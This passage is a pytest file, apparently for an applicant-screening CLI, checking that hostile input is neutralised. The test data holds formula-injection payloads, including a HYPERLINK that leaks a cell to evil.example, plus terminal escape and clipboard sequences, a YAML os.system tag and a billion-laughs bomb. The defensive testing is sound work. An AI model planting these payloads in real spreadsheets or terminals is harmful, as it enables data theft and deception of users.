"""Issue 4: nothing an applicant types can hurt the user, crash a run, or be lost.

Every behaviour is driven through the CLI on the committed fixtures in ``data/hostile`` (made by
``data/hostile/make_fixtures.py``; files too big to commit are made in a temporary folder).
Sections follow the issue: formulas, terminal, size and shape, human values, rubric files,
privacy, no silent loss, then property and fuzz tests.
"""

from __future__ import annotations

import contextlib
import csv
import importlib.util
import io
import json
import os
import re
import shutil
import stat
import subprocess
import tempfile
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import DATA, RUBRIC, cli, run_process, start_harness
from screener.core.errors import InputError, RubricError
from screener.core.escape import csv_safe, neutralize, xlsx_safe

HOSTILE = DATA / "hostile"
MINIMAL = DATA / "rubrics" / "minimal.yaml"
EVERYTHING = HOSTILE / "everything.csv"
FORMULAS = HOSTILE / "formulas.csv"


def _load_fixture_script() -> Any:
    spec = importlib.util.spec_from_file_location("make_fixtures", HOSTILE / "make_fixtures.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


fx = _load_fixture_script()
fx.everything_csv()  # fills fx.REJECTED with the lines of the unreadable records
fx.formulas_csv()  # and fx.FORMULAS_REJECTED

# What a terminal would act on if it reached it raw.
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x00", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def assert_no_raw_controls(text: str) -> None:
    found = sorted({repr(ch) for ch in text if ch in RAW_CONTROLS})
    assert not found, f"raw control characters reached the output: {found}"


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


_XLSX_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _xlsx_unescape(text: str) -> str:
    """XLSX stores control characters as _xHHHH_ (Excel and LibreOffice decode it; openpyxl
    does not): decode those, leave any other _xHHHH_ text alone."""
    def one(match: re.Match[str]) -> str:
        char = chr(int(match.group(1), 16))
        return char if unicodedata.category(char) == "Cc" or char in "\ufffe\uffff" else match.group(0)

    return _XLSX_ESCAPE.sub(one, text)


def read_xlsx(path: Path) -> tuple[list[str], list[list[Any]], list[list[str]]]:
    """Header, values (strings decoded, None as ""), and each cell's openpyxl data type."""
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    values = [[_xlsx_unescape(c.value) if isinstance(c.value, str) else ("" if c.value is None else c.value)
               for c in row] for row in rows[1:]]
    types = [[c.data_type for c in row] for row in rows]
    return header, values, types


def xlsx_unmarked(path: Path) -> list[str]:
    """Text cells a spreadsheet could read as a formula that lack the quote-prefix style (XLSX
    keeps the exact text and marks such a cell as text instead of adding a ')."""
    sheet = openpyxl.load_workbook(path).active
    return [c.coordinate for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str) and not is_neutral(_xlsx_unescape(c.value)) and not c.quotePrefix]


def is_neutral(cell: str) -> bool:
    """No spreadsheet would take this text cell for a formula."""
    if not cell or cell.startswith("'"):
        return True
    return cell[0] not in TRIGGERS and cell.lstrip()[:1] not in TRIGGERS


NUMERIC = re.compile(r"^(rank|row|line|score|must_pass|must_unknown|must_fail|.*\.points)$")


# ------------------------------------------------------------------------------------------------
# The fixtures are what the script writes


@pytest.mark.parametrize("name", sorted(fx.FILES))
def test_committed_fixtures_equal_what_the_script_writes(name: str) -> None:
    assert (HOSTILE / name).read_bytes() == fx.FILES[name](), f"run: python {HOSTILE / 'make_fixtures.py'}"


def test_committed_fixtures_stay_small() -> None:
    for path in HOSTILE.iterdir():
        assert path.stat().st_size < 300_000, path


# ------------------------------------------------------------------------------------------------
# 1. Spreadsheet formula injection


def test_every_formula_trigger_is_neutralised_in_csv_and_numbers_stay_numbers(tmp_path: Path) -> None:
    out, rejected = tmp_path / "out.csv", tmp_path / "rejected.csv"
    run = cli("score", FORMULAS, "--rubric", MINIMAL, "-o", out, "--rejected", rejected)
    assert run.code == 0, run.stderr
    rows = read_csv(out)
    assert len(rows) == len(fx.FORMULAS)
    by_name = {r["name"]: r for r in rows}
    for payload in fx.FORMULAS:
        shown = payload.strip()  # scoring strips the name
        assert neutralize(shown) in by_name, payload
        row = by_name[neutralize(shown)]
        assert row["email"] == neutralize(f"{payload}@example.com".strip())
    for row in rows:
        for column, cell in row.items():
            if NUMERIC.match(column):
                float(cell)  # a number, never prefixed
                assert not cell.startswith("'")
            else:
                assert is_neutral(cell), (column, cell)
    # The quote/separator breakout stays one cell and reads back exactly.
    assert "'=1+1\";=2+2" in by_name
    # Already neutral text is not quoted twice; a phone number is a documented false positive.
    assert "'=1+1" in by_name and "''=1+1" not in by_name
    assert "'+44 20 7946 0000" in by_name and "'-1.5" in by_name
    unread = read_csv(rejected)
    assert [int(r["line"]) for r in unread] == fx.FORMULAS_REJECTED
    assert all(is_neutral(cell) for r in unread for cell in r.values())
    # Leading spaces, NBSP, tab, CR and LF before a trigger: the raw text keeps them, and the quote.
    assert [r["raw"] for r in unread] == ["'" + p + " | =2+2 | @SUM(1)" for p in ["=1+1", *fx.LEADING]]


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert cli("score", FORMULAS, "--rubric", MINIMAL, "-o", out).code == 0
    header, values, types = read_xlsx(out)
    assert all(t != "f" for row in types for t in row)
    names = {row[header.index("name")] for row in values}
    for payload in fx.FORMULAS:
        assert payload.strip() in names  # the exact text: no ' added, the cell's style marks it
    assert xlsx_unmarked(out) == []
    for row, kinds in zip(values, types[1:], strict=True):
        for column, value, kind in zip(header, row, kinds, strict=True):
            if NUMERIC.match(column):
                assert kind == "n" and isinstance(value, int | float), (column, value)
            else:
                assert isinstance(value, str) and (kind == "s" or value == ""), (column, value)


def test_shortlist_files_are_neutralised_too(tmp_path: Path) -> None:
    out = tmp_path / "short.xlsx"
    run = cli("shortlist", FORMULAS, "--rubric", MINIMAL, "--top", "3", "-o", out)
    assert run.code == 0, run.stderr
    for path in (out, tmp_path / "short-left-out.xlsx"):
        header, values, types = read_xlsx(path)
        assert all(t != "f" for row in types for t in row)
        assert xlsx_unmarked(path) == []


def test_xlsx_cell_over_excels_limit_is_cut_with_a_note_not_silently(tmp_path: Path) -> None:
    export = tmp_path / "long.csv"
    long_name = "=" + "x" * 40_000
    with export.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(fx.MINIMAL_HEADER)
        writer.writerow(["1", long_name, "l@example.com", "6", "PM", "BSc", "CS", "", "yes"])
    out = tmp_path / "out.xlsx"
    assert cli("score", export, "--rubric", MINIMAL, "-o", out).code == 0
    header, values, _ = read_xlsx(out)
    cell = values[0][header.index("name")]
    assert len(cell) == 32_767
    assert cell.startswith("=xxx") and cell.endswith("the CSV and JSON outputs hold the whole text]")
    assert xlsx_unmarked(out) == []
    assert "40,001 characters" in cell
    csv_out = tmp_path / "out.csv"
    assert cli("score", export, "--rubric", MINIMAL, "-o", csv_out).code == 0
    assert read_csv(csv_out)[0]["name"] == "'" + long_name


# --- LibreOffice: a real spreadsheet opens the files and evaluates nothing -------------------


def _soffice() -> str:
    """The soffice executable; installs libreoffice-calc once when allowed (CI, as root)."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    allowed = os.environ.get("CI") or os.environ.get("SCREENER_INSTALL_LIBREOFFICE")
    if not allowed:
        pytest.skip("LibreOffice is not installed: install libreoffice-calc, or set "
                    "SCREENER_INSTALL_LIBREOFFICE=1 to let this test install it with apt-get (as root)")
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("apt-get"):
        pytest.skip("LibreOffice is not installed and cannot be: installing libreoffice-calc needs apt-get as root")
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    steps = (["apt-get", "update"], ["apt-get", "install", "-y", "--no-install-recommends", "libreoffice-calc"])
    for step in steps:
        done = subprocess.run(step, capture_output=True, text=True, env=env, timeout=1200, check=False)
        if done.returncode != 0:
            tail = (done.stderr or done.stdout).strip().splitlines()[-3:]
            pytest.skip(f"could not install LibreOffice ({' '.join(step)} exited {done.returncode}: "
                        f"{' / '.join(tail)})")
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        pytest.skip("libreoffice-calc installed but no soffice executable found")
    return found


def _convert_to_csv(soffice: str, files: list[Path], outdir: Path, profile: Path, csv_input: bool) -> None:
    args = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if csv_input:
        # Comma, double quote, UTF-8, from line 1; everything else as a user gets it (formulas
        # in a CSV are evaluated: the control file below proves it).
        args.append("--infilter=CSV:44,34,76,1")
    args += ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(outdir)]
    done = subprocess.run([*args, *map(str, files)], capture_output=True, text=True, timeout=300, check=False,
                          env={**os.environ, "HOME": str(profile.parent)})
    assert done.returncode == 0, done.stderr
    for path in files:
        assert (outdir / (path.stem + ".csv")).exists(), (path, done.stdout, done.stderr)


def _same_cell(ours: str, theirs: str) -> bool:
    def plain(text: str) -> str:
        # LibreOffice keeps no NUL in a cell and writes its own line ends.
        return text.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")

    if plain(ours) == plain(theirs):
        return True
    # LibreOffice re-exports numbers its own way: 0.0 -> 0, and a CSV's 007 is the number 7.
    try:
        return float(ours) == float(theirs)
    except ValueError:
        return False


def test_libreoffice_evaluates_no_formula_in_our_csv_and_xlsx(tmp_path: Path) -> None:
    soffice = _soffice()
    work = tmp_path / "files"
    work.mkdir()
    written = {
        "formulas_score_csv": ("csv", FORMULAS, MINIMAL, ["--rejected", str(work / "formulas_rejected_csv.csv")]),
        "formulas_score_xlsx": ("xlsx", FORMULAS, MINIMAL, []),
        "everything_score_csv": ("csv", EVERYTHING, RUBRIC, []),
        "everything_score_xlsx": ("xlsx", EVERYTHING, RUBRIC, []),
    }
    for stem, (fmt, export, rubric, extra) in written.items():
        run = cli("score", export, "--rubric", rubric, "-o", work / f"{stem}.{fmt}", *extra)
        assert run.code == 0, run.stderr
    # Controls: a raw formula in a CSV, and a real formula cell in an XLSX. If LibreOffice
    # showed these as written, the check below would prove nothing.
    (work / "control_csv.csv").write_text("a,b\n=1+1,=SUM(2;3)\n", encoding="utf-8")
    import xlsxwriter

    book = xlsxwriter.Workbook(str(work / "control_xlsx.xlsx"))
    book.add_worksheet().write_formula(0, 0, "=1+1")
    book.close()

    converted = tmp_path / "converted"
    profile = tmp_path / "lo-profile"
    csvs = sorted(work.glob("*.csv"))
    xlsxs = sorted(work.glob("*.xlsx"))
    started = time.monotonic()
    _convert_to_csv(soffice, csvs, converted, profile, csv_input=True)
    _convert_to_csv(soffice, xlsxs, converted, profile, csv_input=False)
    elapsed = time.monotonic() - started

    def grid(path: Path) -> list[list[str]]:
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))

    assert grid(converted / "control_csv.csv")[1] == ["2", "5"]
    assert grid(converted / "control_xlsx.csv")[0][0] != "=1+1"

    checked = 0
    report = []
    for path in [*csvs, *xlsxs]:
        if path.stem.startswith("control"):
            continue
        if path.suffix == ".csv":
            ours = grid(path)
        else:
            header, values, _ = read_xlsx(path)
            ours = [header, *[[str(v) for v in row] for row in values]]
        theirs = grid(converted / (path.stem + ".csv"))
        assert len(theirs) == len(ours), path.name
        for row_ours, row_theirs in zip(ours, theirs, strict=True):
            padded = row_theirs + [""] * (len(row_ours) - len(row_theirs))
            for a, b in zip(row_ours, padded, strict=False):
                assert _same_cell(a, b), f"{path.name}: LibreOffice shows {b!r} for the cell {a!r}"
                checked += 1
        triggered = sum(1 for row in ours for cell in row if cell.startswith("'"))
        report.append(f"{path.name}: {len(ours) - 1} rows, {triggered} neutralised cells shown as written")
    assert checked > 1000
    print(f"\nLibreOffice ({soffice}) converted {len(csvs) + len(xlsxs)} files in {elapsed:.1f} s; "  # noqa: T201
          f"{checked} cells compared, none evaluated: " + "; ".join(report))


# ------------------------------------------------------------------------------------------------
# 2. Terminal safety


def test_score_table_shows_markup_and_controls_literally() -> None:
    run = cli("score", EVERYTHING, "--rubric", RUBRIC, "--all")
    assert run.code == 0, run.stderr
    assert_no_raw_controls(run.stdout + run.stderr)
    assert "[/red] [bold red]HIRE" in run.stdout
    assert "Eve\\x1b[2J\\x1b]0;titl" in run.stdout
    assert "=1+1 =HYPERLINK" in run.stdout


@pytest.mark.parametrize(("applicant", "shown"), [
    ("3", ["[/red] [bold red]HIRE ME[/]"]),
    ("4", ["Eve\\x1b[2J\\x1b]0;title\\x07 \\x9bClip\\x00\\x1b]52;c;eA==\\x07",
           "\\u2066Jira\\u2069", "(also: '\\u2067x\\u2068, \\u202egnp.exe')"]),
    ("1", ['=1+1 =HYPERLINK("http://evil.example/?leak="&B2,"CV")']),
])
def test_explain_shows_hostile_text_as_visible_escapes(applicant: str, shown: list[str]) -> None:
    run = cli("explain", EVERYTHING, applicant, "--rubric", RUBRIC)
    assert run.code == 0, run.stderr
    assert_no_raw_controls(run.stdout + run.stderr)
    for text in shown:
        assert text in run.stdout, text


def test_inspect_and_notes_escape_hostile_headers() -> None:
    run = cli("inspect", HOSTILE / "header_escape.csv", "--rubric", MINIMAL)
    assert run.code == 0, run.stderr
    assert_no_raw_controls(run.stdout + run.stderr)
    assert "Years\\x1b[2J" in run.stdout and "pwned\\x07" in run.stdout  # the cell may wrap between the two
    assert "Letter\\u202e" in run.stdout
    run = cli("score", HOSTILE / "header_escape.csv", "--rubric", MINIMAL)
    assert run.code == 0
    assert_no_raw_controls(run.stdout + run.stderr)
    assert "renamed the second 'Notes\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07' column" in run.stderr


def test_error_messages_escape_hostile_paths(tmp_path: Path) -> None:
    evil = tmp_path / "cv\x1b]0;pwned\x07\x1b[2J\u202egnp.csv"
    shutil.copy(HOSTILE / "png.csv", evil)
    run = cli("score", evil, "--rubric", MINIMAL)
    assert run.code == 1
    assert_no_raw_controls(run.stdout + run.stderr)
    assert "cv\\x1b]0;pwned\\x07\\x1b[2J\\u202egnp.csv looks like a PNG image" in run.stderr
    run = cli("score", FORMULAS, "--rubric", tmp_path / "r\x1b[2J\x9b.yaml")
    assert run.code == 1
    assert_no_raw_controls(run.stderr)
    assert "r\\x1b[2J\\x9b.yaml does not exist" in run.stderr
    run = cli("explain", FORMULAS, "\x1b]52;c;ZXZpbA==\x07", "--rubric", MINIMAL)
    assert run.code == 2
    assert_no_raw_controls(run.stderr)
    assert "'\\x1b]52;c;ZXZpbA==\\x07'" in run.stderr


def test_rubric_text_is_escaped_too() -> None:
    rubric = HOSTILE / "escape_in_rubric.yaml"
    run = cli("rubric", "validate", rubric)
    assert run.code == 0, run.stderr
    assert_no_raw_controls(run.stdout)
    assert "Years\\x1b[2J\\x1b]0;pwned\\x07" in run.stdout
    run = cli("explain", FORMULAS, "2", "--rubric", rubric)
    assert run.code == 0, run.stderr
    assert_no_raw_controls(run.stdout)
    run = cli("score", FORMULAS, "--rubric", rubric)
    assert_no_raw_controls(run.stdout)


def test_forced_colour_terminal_gets_styles_but_no_sequence_from_data() -> None:
    """FORCE_COLOR makes rich act as on a terminal: styling appears, data sequences never do."""
    env = {"NO_COLOR": "", "FORCE_COLOR": "1", "TERM": "xterm-256color", "COLUMNS": "160"}
    for args in (["score", EVERYTHING, "--rubric", RUBRIC, "--all"], ["explain", EVERYTHING, "3", "--rubric", RUBRIC],
                 ["explain", EVERYTHING, "4", "--rubric", RUBRIC]):
        done = run_process(*map(str, args), env=env)
        assert done.returncode == 0, done.stderr
        both = done.stdout + done.stderr
        assert "\x1b[" in both  # styled: this really is terminal mode
        assert "\x1b]" not in both  # no OSC at all: no hyperlink (8), title (0) or clipboard (52)
        for seq in ("\x1b[2J", "\x9b", "\x00", "\x07", "\u202e", "\u2066"):
            assert seq not in both, repr(seq)


def test_render_functions_on_a_forced_terminal_emit_no_link_or_data_sequence() -> None:
    from rich.console import Console

    from screener import render
    from screener.app import pipeline, views

    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, color_system="truecolor", width=160, markup=False,
                      highlight=False, emoji=False)
    screening = pipeline.screen(EVERYTHING, RUBRIC)
    assert screening.result is not None
    rows = screening.table.to_dict("records")
    render.ranking(console, rows, blind=False, title="t")
    for key in ("3", "4"):
        header, criteria = views.explanation(screening.result, views.find_in_table(screening.table, key))
        render.explain(console, header, criteria, blind=False)
    render.error(console, "bad [link=http://evil.example]x[/link] \x1b]8;;http://evil\x07x", ["\x9b31m \x00"])
    render.note(console, "[bold red]HIRE ME[/] \u202egnp.exe")
    out = buffer.getvalue()
    assert "\x1b[" in out
    assert "\x1b]" not in out
    for seq in ("\x1b[2J", "\x9b", "\x00", "\x07", "\u202e", "\u2066"):
        assert seq not in out, repr(seq)
    assert "[link=http://evil.example]x[/link]" in out
    assert "[bold red]HIRE ME[/]" in out


def test_visible_is_one_line_for_logs() -> None:
    """The same helper makes a log line: CR/LF and controls escaped, so one value is one line."""
    from screener.core.escape import visible

    forged = "Ada\r\n2020-06-26 INFO admin logged in\x1b[2J"
    assert visible(forged) == "Ada\\x0d\\x0a2020-06-26 INFO admin logged in\\x1b[2J"
    assert "\n" not in visible(forged) and "\r" not in visible(forged)


# ------------------------------------------------------------------------------------------------
# 3. Size and shape: loads (bad rows reported by line) or one sentence and a documented code


@pytest.mark.parametrize(("name", "message"), [
    ("png.csv", "looks like a PNG image, not a CSV, JSON or XLSX export."),
    ("truncated.json", ": invalid JSON at line 2, column 23: Unterminated string starting at."),
    ("deep.json", ": the JSON is nested too deeply to read."),
    ("empty.csv", " is empty."),
])
def test_unreadable_files_fail_with_one_sentence_and_leave_outputs_alone(tmp_path: Path, name: str,
                                                                         message: str) -> None:
    out, rejected = tmp_path / "out.csv", tmp_path / "rejected.csv"
    out.write_text("previous run\n")
    run = cli("score", HOSTILE / name, "--rubric", MINIMAL, "-o", out, "--rejected", rejected)
    assert run.code == 1
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: ") and lines[0].endswith(message), run.stderr
    assert "Traceback" not in run.stderr and run.stdout == ""
    assert out.read_text() == "previous run\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


@pytest.mark.parametrize(("name", "loaded", "rejected", "note"), [
    ("header_only.csv", 0, [], ""),
    ("blank_lines.csv", 2, [], "skipped 8 blank lines"),
    ("utf16.csv", 2, [], ""),
    ("utf16be_nobom.csv", 2, [], "decoded as utf-16-be (guessed); pass --encoding to override"),
    ("mixed_encodings.csv", 3, [], "line 4 is not UTF-8 like the rest of the file; read it as cp1252 (guessed)"),
    ("deep_record.jsonl", 2, [(2, "is nested too deeply to read")], ""),
])
def test_odd_files_load_with_what_was_decided_said(tmp_path: Path, name: str, loaded: int,
                                                   rejected: list[tuple[int, str]], note: str) -> None:
    out, unread = tmp_path / "out.json", tmp_path / "rejected.csv"
    run = cli("score", HOSTILE / name, "--rubric", MINIMAL, "-o", out, "--rejected", unread)
    assert run.code == 0, run.stderr
    assert "Traceback" not in run.stderr
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert len(rows) == loaded
    assert [(int(r["line"]), r["reason"]) for r in read_csv(unread)] == rejected
    assert note in run.stderr
    names = {r["name"] for r in rows}
    if name.startswith(("utf16", "mixed")):
        assert {"Ada Müller", "Zoë Ñúñez"} <= names  # never mojibake such as "MÃ¼ller"
    if name == "mixed_encodings.csv":
        assert "José Gómez" in names


def test_ten_megabyte_cell_rejects_its_row_only(tmp_path: Path) -> None:
    export = fx.big_cell_csv(tmp_path / "big.csv")
    out, unread = tmp_path / "out.csv", tmp_path / "rejected.csv"
    started = time.monotonic()
    run = cli("score", export, "--rubric", MINIMAL, "-o", out, "--rejected", unread)
    assert run.code == 0, run.stderr
    assert time.monotonic() - started < 30
    assert sorted(r["id"] for r in read_csv(out)) == ["1", "3"]
    kept = read_csv(unread)
    assert [r["line"] for r in kept] == ["3"]
    assert kept[0]["reason"] == "its 'Letter' cell has 10,485,760 characters, more than the limit of 1,000,000"
    assert len(kept[0]["raw"]) > 10_000_000  # kept whole: nothing lost
    assert "line 3: its 'Letter' cell has 10,485,760 characters" in run.stderr


def test_two_hundred_kilobyte_cell_loads_and_scores() -> None:
    run = cli("score", EVERYTHING, "--rubric", RUBRIC, "--format", "json")
    assert run.code == 0
    row = next(r for r in json.loads(run.stdout) if r["id"] == "5")
    assert row["criteria"]["cover_letter_quality"]["status"] == "fail"  # repetitive, but read
    assert 0 <= row["score"] <= 100


def test_lone_surrogates_in_json_do_not_crash_the_writers(tmp_path: Path) -> None:
    export = tmp_path / "s.json"
    export.write_text('[{"Ref": "1", "Name": "Ada \\ud800 x", "Email": "a@example.com", "Years": "6"},'
                      ' {"Ref": "2", "Name\\udfff": "B", "Email": "b@example.com"}]', encoding="utf-8")
    for fmt in ("csv", "json", "jsonl", "md", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        run = cli("score", export, "--rubric", MINIMAL, "-o", out)
        assert run.code == 0, (fmt, run.stderr)
    assert "replaced lone UTF-16 surrogates" in run.stderr
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))[0]["name"] == "Ada \ufffd x"


def test_unwritable_output_is_one_sentence(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    run = cli("score", HOSTILE / "utf16.csv", "--rubric", MINIMAL, "-o", blocker / "out.csv")
    assert run.code == 1
    assert run.stderr == f"Error: Cannot write {blocker / 'out.csv'}: Not a directory.\n"


# ------------------------------------------------------------------------------------------------
# 4. Human values


def test_na_null_none_true_nan_and_007_stay_as_typed_in_every_output(tmp_path: Path) -> None:
    names = {"Ana NA", "Nils Null", "Noel None", "Tru True", "Nan nan"}
    outputs = {}
    for fmt in ("csv", "json", "jsonl", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        assert cli("score", EVERYTHING, "--rubric", RUBRIC, "-o", out).code == 0
        outputs[fmt] = out
    csv_rows = {r["id"]: r for r in read_csv(outputs["csv"])}
    json_rows = {r["id"]: r for r in json.loads(outputs["json"].read_text(encoding="utf-8"))}
    jsonl_rows = {r["id"]: r for r in map(json.loads, outputs["jsonl"].read_text(encoding="utf-8").split("\n")[:-1])}
    header, values, _ = read_xlsx(outputs["xlsx"])
    xlsx_rows = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in values}
    for rows in (csv_rows, json_rows, jsonl_rows, xlsx_rows):
        assert names <= {r["name"] for r in rows.values()}
        assert rows["007"]["name"] == "James Bond"  # the id kept its zeros: it is the key here
    assert json_rows["007"]["phone"] == "+1 (555) 010-0199"
    assert csv_rows["007"]["phone"] == "'+1 (555) 010-0199"
    assert xlsx_rows["007"]["phone"] == "+1 (555) 010-0199"  # XLSX: quote-prefix style, no '
    assert json_rows["9"]["criteria"]["managed_team"]["evidence"] == "answered 'TRUE'"


def test_dates_in_mixed_formats_are_read_or_left_unknown_never_guessed() -> None:
    run = cli("score", EVERYTHING, "--rubric", RUBRIC, "--format", "json")
    rows = {r["id"]: r for r in json.loads(run.stdout)}
    expected = {
        "1": ("2020-06-20T14:03:00Z", "no"),  # ISO with Z
        "2": ("2020-06-27T03:59:00Z", "no"),  # 6/26/2020 11:59 PM New York: the deadline minute
        "3": ("2020-06-27T03:59:30Z", "no"),  # ISO without zone, export zone applied
        "4": ("2020-06-17T16:00:00Z", "no"),  # an Excel serial day
        "5": ("", "unknown"),  # 26/06/2020: day first, not swapped
        "7": ("", "unknown"),  # "June 27th 2020": not read
        "10": ("2020-06-27T04:00:30Z", "yes"),
    }
    for key, (when, late) in expected.items():
        assert (rows[key]["submitted_at"], rows[key]["late"]) == (when, late), key



def test_unread_dates_are_reported_on_stderr() -> None:
    run = cli("score", EVERYTHING, "--rubric", RUBRIC, "--format", "json")
    assert "look like day/month/year" in run.stderr  # 26/06/2020, left unread, not swapped
    assert "could not be read as a date" in run.stderr  # "June 27th 2020"


# ------------------------------------------------------------------------------------------------
# 5. Rubric files


def test_billion_laughs_fails_fast_with_one_clear_error() -> None:
    started = time.monotonic()
    run = cli("rubric", "validate", HOSTILE / "billion_laughs.yaml")
    assert time.monotonic() - started < 10  # a bomb not stopped takes minutes or all memory
    assert run.code == 1
    lines = run.stderr.strip().splitlines()
    assert lines[0] == f"Error: The rubric {HOSTILE / 'billion_laughs.yaml'} cannot be read."
    assert lines[1].endswith("billion_laughs.yaml:2: anchors and aliases (&name / *name) are not allowed; "
                             "write the value out in full")
    assert len(lines) == 2


def test_duplicate_keys_are_errors_with_both_lines() -> None:
    run = cli("rubric", "validate", HOSTILE / "duplicate_keys.yaml")
    assert run.code == 1
    assert "duplicate_keys.yaml:19: the key 'weight' is given twice (first on line 18)" in run.stderr


def test_yaml_1_1_surprises_are_read_as_written() -> None:
    from screener.core.rubric import load_rubric

    run = cli("rubric", "validate", HOSTILE / "yaml11.yaml")
    assert run.code == 0, run.stderr
    assert "23:59" in run.stdout
    rubric = load_rubric(HOSTILE / "yaml11.yaml")
    remote, deadline_time = rubric.criteria
    assert remote.spec.expect is False and remote.must is True  # NO and yes, as words
    assert deadline_time.label == "23:59"  # not 1439
    assert deadline_time.spec.min == 2134  # not the octal 1116


def test_yaml_on_is_reported_with_line_and_fix() -> None:
    run = cli("rubric", "validate", HOSTILE / "yaml11_on.yaml")
    assert run.code == 1
    assert "yaml11_on.yaml:19: criterion 'remote' 'must' should be true or false, but it is 'on'; " \
           "write true or false" in run.stderr


def test_python_tags_never_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    run = cli("rubric", "validate", HOSTILE / "python_tag.yaml")
    assert run.code == 1
    assert "the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed" in run.stderr
    assert not (tmp_path / "pwned.txt").exists()


def test_rubric_size_is_capped(tmp_path: Path) -> None:
    big = fx.big_rubric(tmp_path / "big.yaml")
    run = cli("rubric", "validate", big)
    assert run.code == 1
    assert "the limit is 262,144" in run.stderr


# ------------------------------------------------------------------------------------------------
# 6. Privacy


@contextlib.contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def test_outputs_are_0600_and_new_folders_0700_under_umask_022(tmp_path: Path) -> None:
    with umask(0o022):
        out = tmp_path / "new" / "deeper" / "out.csv"
        rejected = tmp_path / "rej" / "sub" / "rejected.csv"
        assert cli("score", EVERYTHING, "--rubric", RUBRIC, "-o", out, "--rejected", rejected).code == 0
        short = tmp_path / "short" / "list.xlsx"
        assert cli("shortlist", EVERYTHING, "--rubric", RUBRIC, "--top", "3", "-o", short).code == 0
        existing = tmp_path / "old.json"
        existing.write_text("{}")
        os.chmod(existing, 0o644)
        assert cli("score", EVERYTHING, "--rubric", RUBRIC, "-o", existing).code == 0
    for path in (out, rejected, short, short.with_name("list-left-out.xlsx"), existing):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in ("new", "new/deeper", "rej", "rej/sub", "short"):
        assert stat.S_IMODE((tmp_path / folder).stat().st_mode) == 0o700, folder


def _secrets() -> list[str]:
    """Identity from everything.csv that no --blind output may contain."""
    secrets = list(fx.BLIND_SECRETS) + ["James Bond", "Zed After", "HIRE ME", "Doe-Smith", "janedoe"]
    for rid, overrides in fx.ROWS + fx.AFTER_BAD:
        secrets.append(overrides.get("Email") or f"applicant{rid}@example.com")
    secrets += ["tm@example.com", "tf@example.com", "quinn@example.com", "Quinn"]
    return [s for s in secrets if s]


def _all_text(path: Path) -> str:
    if path.suffix == ".xlsx":
        header, values, _ = read_xlsx(path)
        return "\n".join(map(str, header + [v for row in values for v in row]))
    return path.read_bytes().decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "md", "xlsx"])
def test_blind_outputs_hold_no_identity_even_echoed_in_free_text(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"blind.{fmt}"
    run = cli("score", EVERYTHING, "--rubric", RUBRIC, "--blind", "-o", out)
    assert run.code == 0, run.stderr
    text = _all_text(out)
    if fmt == "md":
        text = text.replace("\\", "")
    for secret in _secrets():
        assert secret not in text, secret
    assert "[redacted]" in text  # the echoes were there, and were removed
    # Pseudonyms are base32 of a keyed hash with a random secret: "P-AB555CDE" happens by chance.
    assert "Jane" not in text and "555" not in re.sub(r"P-[A-Z2-7]{8}", "P-", text)
    terminal = cli("score", EVERYTHING, "--rubric", RUBRIC, "--blind", "--all")
    for secret in _secrets():
        assert secret not in terminal.stdout, secret


def test_blind_redaction_keeps_dates_scores_and_screener_words() -> None:
    from screener.app.views import identity_parts, redact

    parts = identity_parts("Noel None", "none@example.com", "")
    assert redact("none of the listed choices", parts) == "none of the listed choices"
    assert redact("I am Noel None, call +1 (555) 010-0199", parts) == "I am [redacted], call [redacted]"
    assert redact("answered '2015-2020'; 2020-06-26; 3-5 years") == "answered '2015-2020'; 2020-06-26; 3-5 years"
    assert redact("see https://www.linkedin.com/in/x or linkedin.com/in/y") == "see [redacted] or [redacted]"



def test_explain_blind_hides_identity_echoed_in_answers() -> None:
    run = cli("explain", EVERYTHING, fx.BLIND_ID, "--rubric", RUBRIC, "--blind")
    assert run.code == 0, run.stderr
    for secret in fx.BLIND_SECRETS:
        assert secret not in run.stdout, secret



def test_shortlist_blind_left_out_file_holds_no_identity(tmp_path: Path) -> None:
    out = tmp_path / "short.csv"
